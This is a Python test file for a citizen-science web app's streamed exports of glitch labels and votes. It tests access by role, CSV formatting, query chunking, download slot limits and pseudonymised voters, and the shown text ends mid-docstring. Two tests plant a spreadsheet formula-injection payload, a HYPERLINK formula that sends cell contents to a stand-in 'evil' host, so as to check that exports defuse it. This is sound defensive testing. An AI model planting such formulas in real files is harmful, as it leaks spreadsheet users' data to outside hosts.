"""The labels export (/api/exports/labels.csv and .json): streamed, Gravity Spy's columns
plus posterior, votes and the model's top class, and what each role may take away; the
votes export (/api/exports/votes.csv), one row per vote, for reviewers and admins."""

import csv
import io
import json
import threading

import pytest
from django.contrib.auth.models import Group
from django.core.signals import request_finished
from django.db import close_old_connections, connection, connections
from django.db.models import ProtectedError
from django.urls import reverse
from rest_framework.test import APIClient
from webapp_factories import SubjectFactory, UserFactory, active_prediction, glitch_class

from webapp.accounts.roles import ADMIN, REVIEWER
from webapp.labeling import exports, services
from webapp.labeling.models import Classification, GlitchClass, Subject
from webapp.modeling.models import ModelVersion

pytestmark = pytest.mark.django_db


def user_in(role, username):
    user = UserFactory(username=username)
    user.groups.add(Group.objects.get_or_create(name=role)[0])
    return user


@pytest.fixture
def glitches():
    """A retired pool glitch with votes and a prediction, an open one, a gold one."""
    retired = SubjectFactory(
        external_id="H1_retired001",
        source="gravityspy-real",  # GLITCHLAB_GRAVITYSPY_SOURCES: ids are Gravity Spy's
        ifo="H1",
        gps_time=1126259462.4,
        status=Subject.Status.RETIRED,
        retired_label=glitch_class("Whistle"),
        posterior={"Whistle": 0.95, "Blip": 0.05},
        views=2,
        n_votes=2,
        images=(),
    )
    for name in ("v1", "v2"):
        Classification.objects.create(
            volunteer=UserFactory(username=name),
            subject=retired,
            glitch_class=glitch_class("Whistle"),
        )
    Classification.objects.create(  # a late vote: kept, never counted
        volunteer=UserFactory(username="v3"),
        subject=retired,
        glitch_class=glitch_class("Blip"),
        after_retirement=True,
    )
    prediction = active_prediction(retired, {"Whistle": 0.8, "Blip": 0.2})
    prediction.confidence = 0.8
    prediction.save()
    open_one = SubjectFactory(
        external_id="L1_open000001", source="gravityspy-real", ifo="L1", images=()
    )
    gold = SubjectFactory(
        external_id="H1_gold000001",
        source="gravityspy-real",
        role=Subject.Role.GOLD,
        gold_label=glitch_class("Blip"),
        images=(),
    )
    return retired, open_one, gold


def body(response) -> str:
    assert response.streaming  # never built in memory as one string
    return b"".join(response.streaming_content).decode()


def test_csv_has_gravity_spy_columns_posterior_votes_and_the_model(client, glitches):
    retired, _, _ = glitches
    client.force_login(user_in(REVIEWER, "rita"))
    response = client.get(reverse("api-labels-csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(body(response))))
    assert list(rows[0]) == exports.COLUMNS
    # Gravity Spy's id: its metadata keys glitches without the detector of the file name
    row = next(r for r in rows if r["gravityspy_id"] == "retired001")
    assert row["subject_id"] == str(retired.pk) and row["ifo"] == "H1"
    assert float(row["event_time"]) == pytest.approx(1126259462.4)
    assert row["label"] == "Whistle" and row["retired"] == "True" and row["status"] == "retired"
    assert json.loads(row["votes"]) == {"Whistle": 2}
    assert json.loads(row["posterior"]) == {"Blip": 0.05, "Whistle": 0.95}
    assert row["ml_label"] == "Whistle" and float(row["ml_confidence"]) == 0.8
    # every class's probability, for a threshold of the scientist's own (was only the top)
    assert json.loads(row["ml_probabilities"]) == {"Whistle": 0.8, "Blip": 0.2}
    unscored = next(r for r in rows if r["gravityspy_id"] == "open000001")
    assert unscored["ml_label"] == "" and json.loads(unscored["ml_probabilities"]) == {}


def test_json_rows_match_and_reviewers_see_every_glitch(client, glitches):
    client.force_login(user_in(ADMIN, "ada"))
    response = client.get(reverse("api-labels-json"))
    assert response["Cache-Control"] == "private, no-store"  # it holds the gold answers
    rows = json.loads(body(response))
    assert {r["gravityspy_id"] for r in rows} == {"retired001", "open000001", "gold000001"}
    gold = next(r for r in rows if r["role"] == "gold")
    assert gold["label"] == "Blip" and gold["retired"] is False
    assert set(rows[0]) == set(exports.JSON_COLUMNS)
    only_retired = json.loads(body(client.get(reverse("api-labels-json") + "?retired=1")))
    assert [r["gravityspy_id"] for r in only_retired] == ["retired001"]


def test_pandas_reads_the_json_exports_gps_times_as_the_numbers_they_are(client, glitches):
    """pd.read_json reads a column named *_time as dates, a number there as seconds since
    1970: the JSON's GPS event_time (seconds since 1980-01-06, 2015-09-15 here) came out as
    2005-09-11, ten years early, with no warning. The JSON names it event_time_gps; the CSV
    keeps Gravity Spy's event_time, which read_csv reads as a number."""
    import pandas as pd

    retired, _, _ = glitches
    Subject.objects.filter(pk=retired.pk).update(
        gps_time=1126400001.123456, retired_at="2026-12-01T10:00:00Z"
    )
    client.force_login(user_in(REVIEWER, "rita"))
    text = body(client.get(reverse("api-labels-json")))

    table = pd.read_json(io.StringIO(text)).set_index("subject_id")  # pandas' defaults

    assert table["event_time_gps"].dtype == "float64"
    assert table.loc[retired.pk, "event_time_gps"] == 1126400001.123456
    from_csv = pd.read_csv(io.StringIO(body(client.get(reverse("api-labels-csv")))))
    assert from_csv.set_index("subject_id").loc[retired.pk, "event_time"] == 1126400001.123456
    # a column read as dates holds dates (ISO 8601 text), not numbers
    dates = [name for name in table if pd.api.types.is_datetime64_any_dtype(table[name])]
    assert dates == ["retired_at", "label_changed_at"]
    assert table.loc[retired.pk, "retired_at"] == pd.Timestamp("2026-12-01T10:00:00Z")


def test_volunteers_get_only_retired_pool_glitches(client, glitches):
    """Gold answers and open glitches' votes stay hidden: they would let a volunteer game
    the queue and their level."""
    client.force_login(UserFactory(username="vera"))
    for name in ("api-labels-csv", "api-labels-json"):
        text = body(client.get(reverse(name)))
        assert "retired001" in text
        assert "gold000001" not in text and "open000001" not in text


def test_anonymous_callers_are_refused(client, glitches):
    for name in ("api-labels-csv", "api-labels-json"):
        response = client.get(reverse(name))
        assert response.status_code in (401, 403)
        assert b"retired001" not in response.content


def test_a_token_client_asking_for_csv_gets_it():
    api = APIClient()
    api.force_authenticate(user_in(REVIEWER, "rita"))
    response = api.get(reverse("api-labels-csv"), HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert (
        body(response)
        .splitlines()[0]
        .startswith("subject_id,external_id,gravityspy_id,ifo,event_time")
    )


def test_the_csv_for_excel_starts_with_a_byte_order_mark_and_reads_the_same(client, glitches):
    """Excel opens a CSV without a UTF-8 byte order mark in the system's code page: an id
    "Glitché-Ω" read "GlitchÃ©-Î©". ?excel=1 adds the mark; the plain CSV stays without it
    (Python's csv module would call its first column "\ufeffsubject_id")."""
    import pandas as pd

    retired, _, _ = glitches
    Subject.objects.filter(pk=retired.pk).update(external_id="Glitché-Ω")
    client.force_login(user_in(REVIEWER, "rita"))
    url = reverse("api-labels-csv")

    excel = b"".join(client.get(url + "?excel=1").streaming_content)
    plain = b"".join(client.get(url).streaming_content)

    assert excel.startswith(b"\xef\xbb\xbf") and not plain.startswith(b"\xef\xbb\xbf")
    assert excel.decode("utf-8-sig") == plain.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(excel.decode("utf-8-sig"))))
    assert next(r for r in rows if r["subject_id"] == str(retired.pk))["external_id"] == "Glitché-Ω"
    for text in (excel, plain):  # pandas' defaults drop the mark
        table = pd.read_csv(io.BytesIO(text))
        assert list(table)[0] == "subject_id" and "Glitché-Ω" in set(table["external_id"])


def test_the_command_writes_a_csv_for_excel_on_request(glitches, tmp_path):
    from django.core.management import call_command
    from django.core.management.base import CommandError

    call_command("export_labels", "--excel", "--output", str(tmp_path / "excel.csv"))
    call_command("export_labels", "--output", str(tmp_path / "plain.csv"))

    excel, plain = (tmp_path / "excel.csv").read_bytes(), (tmp_path / "plain.csv").read_bytes()
    assert excel == b"\xef\xbb\xbf" + plain and plain.startswith(b"subject_id,")
    with pytest.raises(CommandError, match="--excel is for --format csv"):
        call_command("export_labels", "--excel", "--format", "json")


def queries_while_reading(response) -> tuple[int, str]:
    """The statements run while the stream is read (counted by a wrapper: the test client's
    streaming response resets connection.queries half way)."""
    statements = []

    def count(execute, sql, params, many, context):
        statements.append(sql)
        return execute(sql, params, many, context)

    with connection.execute_wrapper(count):
        text = body(response)
    return len(statements), text


def test_the_export_reads_in_chunks_with_a_fixed_number_of_queries_per_chunk(
    client, glitches, monkeypatch
):
    """100k subjects must not load at once: rows come CHUNK at a time, each chunk's votes
    and predictions in one query each, so the query count grows with chunks, not rows."""
    client.force_login(user_in(REVIEWER, "rita"))
    for i in range(7):
        SubjectFactory(external_id=f"H1_more{i:05d}", images=())
    client.get(reverse("api-labels-json")).getvalue()  # the class table is cached now
    monkeypatch.setattr(exports, "CHUNK", 2)
    small, text = queries_while_reading(client.get(reverse("api-labels-json")))
    assert len(json.loads(text)) == 10
    monkeypatch.setattr(exports, "CHUNK", 5)
    large, _ = queries_while_reading(client.get(reverse("api-labels-json")))
    # 5 chunks of 2 vs 2 chunks of 5: four more queries (votes, predictions, reviews, new
    # classes' gold) per extra chunk, and none per row.
    assert small - large == 4 * (5 - 2)
    assert large == 3 + 4 * 2  # the active model, the versions, the subjects, then per chunk


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(connection.vendor != "postgresql", reason="needs PostgreSQL's snapshots")
def test_a_vote_cast_while_the_export_streams_is_in_none_of_its_rows(seeded, monkeypatch):
    """The subjects came from the cursor's snapshot, each later chunk's votes from a newer
    one: a glitch's row could list a vote that its n_votes did not count."""
    monkeypatch.setattr(exports, "CHUNK", 2)
    subjects = [SubjectFactory(external_id=f"H1_snap{i:04d}", images=()) for i in range(4)]
    voter = UserFactory()
    rows = exports.label_rows(Subject.objects.order_by("pk"))
    first = next(rows)  # the first chunk is read, the second not yet

    def vote():  # another request, on its own connection
        try:
            services.classification_create(
                volunteer=voter, subject_id=subjects[3].pk, class_name="Blip"
            )
        finally:
            connections.close_all()

    voting = threading.Thread(target=vote)
    voting.start()
    voting.join()
    last = [first, *rows][-1]
    assert last["subject_id"] == subjects[3].pk
    assert (last["n_votes"], last["votes"]) == (0, {})  # the database as the export began
    assert Subject.objects.get(pk=subjects[3].pk).n_votes == 1  # the vote itself is kept


def test_reviewers_find_the_export_links_on_the_review_page(client):
    client.force_login(user_in(REVIEWER, "rita"))
    page = client.get(reverse("review:queue")).content.decode()
    assert reverse("api-labels-csv") in page and reverse("api-labels-json") in page
    assert reverse("api-labels-csv") + "?excel=1" in page
    assert reverse("api-votes-csv") in page and reverse("api-exports-about") in page


def test_the_command_writes_the_same_rows_as_the_api(client, glitches):
    from io import StringIO

    from django.core.management import call_command

    out = StringIO()
    call_command("export_labels", "--format", "csv", stdout=out)
    client.force_login(user_in(ADMIN, "ada"))
    assert out.getvalue() == body(client.get(reverse("api-labels-csv")))


def test_one_account_streams_one_export_at_a_time_and_the_site_a_few(client, glitches, settings):
    """A streamed export holds a web thread until its client has read it all: a volunteer
    who opened exports and never read them held every thread of the server."""
    # (3: the site's last slot is kept for reviewers, the next test)
    settings.GLITCHLAB_EXPORTS_PER_USER, settings.GLITCHLAB_EXPORTS_AT_ONCE = 1, 3
    first, second, third = (APIClient() for _ in range(3))
    for api, name in ((first, "ann"), (second, "bob"), (third, "cy")):
        api.force_authenticate(UserFactory(username=name))
    url = reverse("api-labels-csv")
    held = first.get(url)  # started, not read
    assert held.status_code == 200
    again = first.get(url)
    assert again.status_code == 429 and again["Retry-After"] == "60"
    assert "still downloading" in again.json()["detail"]
    other = second.get(url)  # the site's second slot
    assert other.status_code == 200
    busy = third.get(url)
    assert busy.status_code == 429 and "2 exports are downloading" in busy.json()["detail"]
    body(held)  # read to the end: its slot is free
    assert first.get(url).status_code == 200  # it takes the freed slot back
    # Closed unread, as the server closes a response whose client went away: free as well
    # (as the test client does it, without the request_finished handler that would close
    # the test's database connection).
    request_finished.disconnect(close_old_connections)
    try:
        other.close()
    finally:
        request_finished.connect(close_old_connections)
    assert body(third.get(url)).startswith("subject_id,")


def test_volunteers_cannot_take_the_last_export_slot_from_reviewers(client, glitches, settings):
    """Two throwaway sign-ups holding unread exports kept every reviewer from the gold
    labels (429 for all, renewed at will): the site's last slot is a reviewer's."""
    settings.GLITCHLAB_EXPORTS_PER_USER, settings.GLITCHLAB_EXPORTS_AT_ONCE = 1, 2
    volunteer, another, reviewer = (APIClient() for _ in range(3))
    volunteer.force_authenticate(UserFactory(username="troll1"))
    another.force_authenticate(UserFactory(username="troll2"))
    reviewer.force_authenticate(user_in(REVIEWER, "rita"))
    url = reverse("api-labels-csv")

    assert volunteer.get(url).status_code == 200  # held, never read
    refused = another.get(url)
    assert refused.status_code == 429 and "an export is downloading now" in refused.json()["detail"]
    assert body(reviewer.get(url)).startswith("subject_id,")


def test_a_failed_export_gives_its_slot_back(client, glitches, monkeypatch):
    api = APIClient()
    api.force_authenticate(UserFactory(username="ann"))

    def broken(subjects):
        yield exports.COLUMNS and {}
        raise RuntimeError("the database went away")

    monkeypatch.setattr(exports, "label_rows", broken)
    with pytest.raises(RuntimeError):
        body(api.get(reverse("api-labels-json")))
    monkeypatch.undo()
    assert api.get(reverse("api-labels-json")).status_code == 200


def test_a_leaked_slot_is_forgotten_within_two_hours_however_often_others_ask(monkeypatch):
    """A web process killed mid-download never gives its slot back. Counted per hour, the
    slot is forgotten after the next hour; refused claims do not keep it alive, and giving
    back an old slot late never takes a newer one's count below zero."""
    from webapp.labeling import export_slots

    clock = [10 * export_slots.WINDOW_S + 5.0]
    monkeypatch.setattr(export_slots.time, "time", lambda: clock[0])
    leaked = export_slots.export_slot_claim(user_id=1)  # its process dies: never released
    for minutes in (0, 30, 70, 110):  # someone keeps asking; all refused
        clock[0] = 10 * export_slots.WINDOW_S + 5.0 + 60 * minutes
        with pytest.raises(export_slots.ExportsBusyError):
            export_slots.export_slot_claim(user_id=1)
    clock[0] = 12 * export_slots.WINDOW_S + 5.0  # two hours on
    fresh = export_slots.export_slot_claim(user_id=1)
    leaked.release()  # late: it counts down its own hour, not the fresh slot's
    with pytest.raises(export_slots.ExportsBusyError):
        export_slots.export_slot_claim(user_id=1)
    fresh.release()
    export_slots.export_slot_claim(user_id=1).release()


def test_a_simulated_glitch_is_marked_and_has_no_gravity_spy_id(client, glitches, settings):
    """ml.synth draws ids, detectors and O1 times that look like Gravity Spy's: exported as
    they were, a demo's simulations read as real LIGO glitches in a scientist's table."""
    retired, _, _ = glitches
    settings.GLITCHLAB_SIMULATED_SOURCES = ["demo-pool"]
    Subject.objects.filter(pk=retired.pk).update(source="demo-pool")
    client.force_login(user_in(REVIEWER, "rita"))

    rows = json.loads(body(client.get(reverse("api-labels-json"))))

    simulated = next(r for r in rows if r["subject_id"] == retired.pk)
    assert simulated["simulated"] is True and simulated["gravityspy_id"] == ""
    assert simulated["external_id"] == "H1_retired001"  # joins ml synth's manifest
    assert {r["simulated"] for r in rows if r["subject_id"] != retired.pk} == {False}


def test_only_gravity_spy_glitches_have_a_gravity_spy_id(client, glitches, settings):
    """ml scan names a trigger without an id by a 10-character hash, as Gravity Spy's ids
    look: exported as gravityspy_id, a scan of one's own strain read as a Gravity Spy glitch
    and joined the wrong row of its tables."""
    retired, _, _ = glitches
    scanned = SubjectFactory(external_id="H1_Ab3dE5gH7j", source="o3-scan", images=())
    client.force_login(user_in(REVIEWER, "rita"))

    rows = {r["subject_id"]: r for r in json.loads(body(client.get(reverse("api-labels-json"))))}

    assert rows[scanned.pk]["gravityspy_id"] == ""
    assert rows[scanned.pk]["external_id"] == "H1_Ab3dE5gH7j"  # joins its scan's manifest
    assert rows[retired.pk]["gravityspy_id"] == "retired001"
    settings.GLITCHLAB_GRAVITYSPY_SOURCES = ["gravityspy-real", "o3-scan"]  # the operator's say
    rows = {r["subject_id"]: r for r in json.loads(body(client.get(reverse("api-labels-json"))))}
    assert rows[scanned.pk]["gravityspy_id"] == "Ab3dE5gH7j"


def test_a_gravity_spy_sets_glitch_without_a_gravity_spy_id_has_none(client, glitches):
    """The shipped set's source holds Zooniverse uploads (zoo-<uuid>) and golden examples
    (golden-<Class>) whose Gravity Spy id nobody knows: all exported as gravityspy_id, 125
    of its 242 glitches read as Gravity Spy's and failed to join its tables."""
    named = {
        "H1_0xA896L9Ao": "0xA896L9Ao",  # a file name's: the detector, then Gravity Spy's id
        "1XASbdqqUr": "1XASbdqqUr",  # from Gravity Spy's metadata CSV, as it keys it
        "zoo-4f1c2d3e-5a6b-7c8d-9e0f-112233445566": "",
        "zoosubject-3772789": "",
        "golden-Blip": "",
        "H1_0xA896L9A": "",  # 9 characters
        "H1_0xA896L9Aoo": "",  # 11
        "H1_0xA896L9Aé": "",  # a letter, but not one of Gravity Spy's
        "L1_0xA896-9Ao": "",
    }
    subjects = {
        SubjectFactory(external_id=name, source="gravityspy-real", images=()).pk: want
        for name, want in named.items()
    }
    client.force_login(user_in(REVIEWER, "rita"))

    rows = {r["subject_id"]: r for r in json.loads(body(client.get(reverse("api-labels-json"))))}

    assert {pk: rows[pk]["gravityspy_id"] for pk in subjects} == subjects
    assert {rows[pk]["external_id"] for pk in subjects} == set(named)  # every id as imported


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, glitches, settings):
    """An imported file's name is a glitch's id: '=HYPERLINK(...)_1.0.png' came out of the
    CSV as a live formula in the scientist's spreadsheet. JSON keeps the id exact."""
    retired, _, _ = glitches
    evil = '=HYPERLINK("http://evil.example/?"&B2,"open")'
    Subject.objects.filter(pk=retired.pk).update(external_id=evil, source="@SUM(A1)")
    settings.GLITCHLAB_GRAVITYSPY_SOURCES = ["@SUM(A1)"]
    client.force_login(user_in(REVIEWER, "rita"))

    rows = list(csv.DictReader(io.StringIO(body(client.get(reverse("api-labels-csv"))))))

    row = next(r for r in rows if r["subject_id"] == str(retired.pk))
    assert row["external_id"] == "'" + evil
    assert row["gravityspy_id"] == ""  # not of Gravity Spy's form
    assert row["source"] == "'@SUM(A1)"
    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "@")]
    exact = json.loads(body(client.get(reverse("api-labels-json"))))
    assert next(r for r in exact if r["subject_id"] == retired.pk)["external_id"] == evil


def test_each_row_says_how_its_label_was_reached(client, glitches):
    """A reviewer's relabel, an accepted class's gold (seeded from volunteers' agreement)
    and an admin's remap exported exactly like a crowd retirement and an expert's gold: a
    paper could not tell which labels the crowd reached."""
    from webapp.discovery.models import ClassProposal, ProposalVote
    from webapp.review.models import LabelChange

    crowd, _, gold = glitches
    relabelled = SubjectFactory(
        external_id="H1_fixed0001",
        status=Subject.Status.RETIRED,
        retired_label=glitch_class("Koi_Fish"),
        images=(),
    )
    rita = user_in(REVIEWER, "rita")
    LabelChange.objects.create(
        subject=relabelled, field="retired_label", before="Blip", after="Koi_Fish", changed_by=rita
    )
    new_class = GlitchClass.objects.create(name="Reverse_Chirp", order=99)
    seeded = SubjectFactory(
        external_id="H1_seeded001",
        role=Subject.Role.GOLD,
        gold_label=new_class,
        status=Subject.Status.RETIRED,
        retired_label=new_class,
        images=(),
    )
    proposal = ClassProposal.objects.create(
        name="Reverse_Chirp", status=ClassProposal.Status.ACCEPTED, glitch_class=new_class
    )
    ProposalVote.objects.create(proposal=proposal, subject=seeded, volunteer=UserFactory())
    # expert gold of the class, still served, that a sheet's proposal vote fell on
    expert = SubjectFactory(
        external_id="H1_expert001", role=Subject.Role.GOLD, gold_label=new_class, images=()
    )
    ProposalVote.objects.create(proposal=proposal, subject=expert, volunteer=UserFactory())
    validation = SubjectFactory(
        external_id="H1_valid0001", role=Subject.Role.VALIDATION, source_label="Blip", images=()
    )
    remapped, then_reviewed = (
        SubjectFactory(
            external_id=name,
            status=Subject.Status.RETIRED,
            retired_label=glitch_class("Chirp"),
            images=(),
        )
        for name in ("H1_moved00001", "H1_moved00002")
    )
    for subject in (remapped, then_reviewed):  # an admin deprecated Reverse_Chirp into Chirp
        LabelChange.objects.create(
            subject=subject,
            field="retired_label",
            cause=LabelChange.Cause.REMAP,
            before="Reverse_Chirp",
            after="Chirp",
            changed_by=rita,
        )
    LabelChange.objects.create(
        subject=then_reviewed, field="retired_label", before="Chirp", after="Blip", changed_by=rita
    )
    Subject.objects.filter(pk=then_reviewed.pk).update(retired_label=glitch_class("Blip"))
    client.force_login(rita)

    rows = {r["subject_id"]: r for r in json.loads(body(client.get(reverse("api-labels-json"))))}

    source = {pk: (r["label_source"], r["label_before_review"]) for pk, r in rows.items()}
    assert source[crowd.pk] == ("crowd", "")
    assert source[relabelled.pk] == ("reviewer", "Blip")
    assert source[gold.pk] == ("gold", "")
    assert source[seeded.pk] == ("new_class", "")
    assert source[expert.pk] == ("gold", "")  # not seeded by that stray vote
    assert source[validation.pk] == ("validation", "")
    assert source[remapped.pk] == ("remapped", "Reverse_Chirp")  # not the crowd's Chirp
    assert source[then_reviewed.pk] == ("reviewer", "Reverse_Chirp")  # the first label
    assert {v for pk, v in source.items() if rows[pk]["label"] == ""} == {("", "")}


def test_each_row_says_when_a_reviewer_or_a_remap_last_changed_its_label(client, glitches):
    """A reviewer's relabel keeps retired_at (when the crowd retired it): nothing said when
    the label the row exports was set. label_changed_at is the last change's time (the
    review log), empty for a label never changed; a change of another field (a pool
    glitch's gold_label) is not its label's."""
    from datetime import UTC, datetime, timedelta

    from webapp.review.models import LabelChange

    crowd, _, _ = glitches
    retired_at = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
    relabelled = SubjectFactory(
        external_id="H1_fixed0001",
        status=Subject.Status.RETIRED,
        retired_label=glitch_class("Koi_Fish"),
        retired_at=retired_at,
        images=(),
    )
    rita = user_in(REVIEWER, "rita")
    first, last, other = (
        LabelChange.objects.create(
            subject=relabelled, field=field, before=before, after=after, changed_by=rita
        )
        for field, before, after in (
            ("retired_label", "Blip", "Whistle"),
            ("retired_label", "Whistle", "Koi_Fish"),
            ("gold_label", "Blip", "Chirp"),  # not the field a pool glitch exports
        )
    )
    for change, days in ((first, 3), (last, 5), (other, 7)):
        LabelChange.objects.filter(pk=change.pk).update(created_at=retired_at + timedelta(days))
    client.force_login(rita)

    rows = {r["subject_id"]: r for r in json.loads(body(client.get(reverse("api-labels-json"))))}

    changed = rows[relabelled.pk]
    assert datetime.fromisoformat(changed["label_changed_at"]) == retired_at + timedelta(5)
    assert datetime.fromisoformat(changed["retired_at"]) == retired_at  # as before
    assert rows[crowd.pk]["label_changed_at"] is None
    table = list(csv.DictReader(io.StringIO(body(client.get(reverse("api-labels-csv"))))))
    assert next(r for r in table if r["subject_id"] == str(crowd.pk))["label_changed_at"] == ""


def test_deleting_a_volunteer_who_voted_is_refused_and_their_votes_stay(admin_client):
    """Before: deleting an account deleted its votes (CASCADE), while the glitches' stored
    counts and retired labels kept them: an export whose `n_votes` and `votes` disagreed,
    and labels nobody could reproduce. Now the admin is told why, and nothing is lost."""
    subject = SubjectFactory()
    voter = UserFactory(username="leaving")
    services.classification_create(volunteer=voter, subject_id=subject.pk, class_name="Blip")
    with pytest.raises(ProtectedError):
        voter.delete()
    page = admin_client.post(f"/admin/auth/user/{voter.pk}/delete/", {"post": "yes"})
    assert "Cannot delete user" in page.content.decode()
    assert Classification.objects.filter(volunteer=voter).count() == 1
    subject.refresh_from_db()
    assert subject.n_votes == 1
    UserFactory(username="never_voted").delete()  # an account without votes still goes


def votes_of(client) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body(client.get(reverse("api-votes-csv"))))))


def test_the_votes_export_has_every_vote_its_class_weight_and_time(client, glitches):
    """The labels export counts the counted votes per class: a dissenting vote cast after
    retirement, the W_i each vote carried, a deprecated class's votes as chosen, gold
    answers and when each vote came were in no export, so a paper could neither rebuild a
    posterior nor say how many votes disagreed."""
    from datetime import datetime, timedelta

    retired, open_one, gold = glitches
    Classification.objects.filter(subject=retired, volunteer__username="v1").update(
        weight={"Whistle": 0.9, "Blip": 0.1}, seconds_taken=4.5
    )
    gone = GlitchClass.objects.create(name="Reverse_Chirp", order=99)
    moved = Classification.objects.create(  # an admin deprecated the class it chose
        volunteer=UserFactory(),
        subject=open_one,
        glitch_class=glitch_class("Chirp"),
        remapped_from=gone,
    )
    graded = Classification.objects.create(
        volunteer=UserFactory(),
        subject=gold,
        glitch_class=glitch_class("Tomte"),
        was_gold=True,
        was_correct=False,
    )
    client.force_login(user_in(REVIEWER, "rita"))

    rows = votes_of(client)

    assert list(rows[0]) == exports.VOTE_COLUMNS
    assert [int(r["vote_id"]) for r in rows] == sorted(
        Classification.objects.values_list("pk", flat=True)
    )
    on_retired = [r for r in rows if r["subject_id"] == str(retired.pk)]
    assert [(r["chosen_class"], r["after_retirement"]) for r in on_retired] == [
        ("Whistle", "False"),
        ("Whistle", "False"),
        ("Blip", "True"),  # late: kept, never counted, and here
    ]
    first = on_retired[0]
    assert first["external_id"] == "H1_retired001" and first["seconds_taken"] == "4.5"
    assert json.loads(first["weight"]) == {"Blip": 0.1, "Whistle": 0.9}
    assert datetime.fromisoformat(first["created_at"]).utcoffset() == timedelta(0)
    by_id = {int(r["vote_id"]): r for r in rows}
    assert (
        by_id[moved.pk]["chosen_class"],
        by_id[moved.pk]["counted_class"],
        by_id[moved.pk]["remapped_from"],
    ) == ("Reverse_Chirp", "Chirp", "Reverse_Chirp")
    assert (first["counted_class"], first["remapped_from"]) == ("Whistle", "")
    assert (by_id[graded.pk]["was_gold"], by_id[graded.pk]["was_correct"]) == ("True", "False")
    assert first["was_correct"] == ""


def test_voters_are_pseudonyms_the_same_in_every_export_never_usernames(client, glitches, settings):
    """A file passed on must not name volunteers (Talk shows their usernames; account ids
    count up): each is "v" and 16 hex digits keyed by SECRET_KEY (or GLITCHLAB_PSEUDONYM_KEY),
    the same in every export, so one volunteer's votes can be followed without saying who."""
    import re

    retired, _, _ = glitches
    named = UserFactory(username="alice.smith")
    Classification.objects.create(
        volunteer=named, subject=retired, glitch_class=glitch_class("Blip")
    )
    client.force_login(user_in(REVIEWER, "rita"))

    text = body(client.get(reverse("api-votes-csv")))

    rows = list(csv.DictReader(io.StringIO(text)))
    assert "alice.smith" not in text
    assert all(re.fullmatch(r"v[0-9a-f]{16}", r["voter"]) for r in rows)
    voters = Classification.objects.order_by("pk").values_list("volunteer_id", flat=True)
    assert [r["voter"] for r in rows] == [exports.voter_pseudonym(pk) for pk in voters]
    assert len({r["voter"] for r in rows}) == 4  # v1, v2, v3, alice
    assert votes_of(client) == rows  # the same in the next export
    settings.SECRET_KEY = "another-site-" + "x" * 40  # not to be worked out from the id
    assert exports.voter_pseudonym(named.pk) not in {r["voter"] for r in rows}


def test_a_pseudonym_key_of_its_own_keeps_pseudonyms_when_secret_key_is_rotated(settings):
    """Keyed by SECRET_KEY alone, rotating it (the answer to a leak) gave every volunteer a
    new pseudonym, and a study following volunteers across exports lost them without a
    word. GLITCHLAB_PSEUDONYM_KEY keys them when set; unset, they are what they were."""
    from django.utils.crypto import salted_hmac

    settings.SECRET_KEY = "the-site-key-" + "s" * 40
    settings.GLITCHLAB_PSEUDONYM_KEY = ""
    before = salted_hmac("glitchlab.exports.voter", "7", algorithm="sha256").hexdigest()[:16]
    assert exports.voter_pseudonym(7) == "v" + before  # as before the setting: unchanged

    settings.GLITCHLAB_PSEUDONYM_KEY = settings.SECRET_KEY  # kept, then SECRET_KEY rotated
    settings.SECRET_KEY = "a-new-site-key-" + "n" * 40
    assert exports.voter_pseudonym(7) == "v" + before
    settings.GLITCHLAB_PSEUDONYM_KEY = "a-pseudonym-key-of-its-own-" + "p" * 30
    assert exports.voter_pseudonym(7) != "v" + before  # a new key: new pseudonyms
    assert exports.voter_pseudonym(7) != exports.voter_pseudonym(8)


def test_only_reviewers_and_admins_get_the_votes(client, glitches):
    """A gold glitch's votes (and was_correct) give its answer, an open one's the crowd's
    lean: volunteers get neither."""
    url = reverse("api-votes-csv")
    assert client.get(url).status_code in (401, 403)
    client.force_login(UserFactory(username="vera"))
    refused = client.get(url)
    assert refused.status_code == 403 and b"Whistle" not in refused.content
    for role, name in ((REVIEWER, "rita"), (ADMIN, "ada")):
        client.force_login(user_in(role, name))
        response = client.get(url)
        assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"
        assert "attachment" in response["Content-Disposition"] and "vote_id" in body(response)


def test_the_votes_csv_keeps_formulas_as_text_and_comes_for_excel(client, glitches):
    retired, _, _ = glitches
    evil = '=HYPERLINK("http://evil.example/?"&B2,"open")'
    Subject.objects.filter(pk=retired.pk).update(external_id=evil)
    client.force_login(user_in(REVIEWER, "rita"))

    rows = votes_of(client)

    assert {r["external_id"] for r in rows} == {"'" + evil}
    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "@")]
    excel = b"".join(client.get(reverse("api-votes-csv") + "?excel=1").streaming_content)
    assert excel.startswith(b"\xef\xbb\xbfvote_id,")


def test_the_votes_export_reads_all_votes_in_one_query_whatever_their_number(
    client, glitches, monkeypatch
):
    """Read CHUNK votes at a time by one query (one snapshot), never a query per vote or
    per voter, and never all in memory."""
    client.force_login(user_in(REVIEWER, "rita"))
    monkeypatch.setattr(exports, "CHUNK", 2)
    body(client.get(reverse("api-votes-csv")))  # the class table is cached now
    few, _ = queries_while_reading(client.get(reverse("api-votes-csv")))
    for i in range(9):
        subject = SubjectFactory(external_id=f"H1_many{i:06d}", images=())
        Classification.objects.create(
            volunteer=UserFactory(), subject=subject, glitch_class=glitch_class("Blip")
        )
    many, text = queries_while_reading(client.get(reverse("api-votes-csv")))
    assert len(list(csv.DictReader(io.StringIO(text)))) == 12
    assert few == many == 1


def test_the_votes_command_writes_the_same_rows_as_the_api(client, glitches, tmp_path):
    from django.core.management import call_command

    out = io.StringIO()
    call_command("export_votes", "--output", str(tmp_path / "votes.csv"), stdout=out)
    assert out.getvalue().startswith("wrote 3 votes to ")
    client.force_login(user_in(ADMIN, "ada"))
    api = body(client.get(reverse("api-votes-csv")))
    assert (tmp_path / "votes.csv").read_bytes().decode() == api


def test_about_json_says_when_by_which_glitchlab_under_which_rules_and_whose_data(
    client, glitches, settings
):
    """An export said nothing of how it was made: not when, not by which code, not the
    retirement threshold (0.9 is only the default; a class may override it in the class
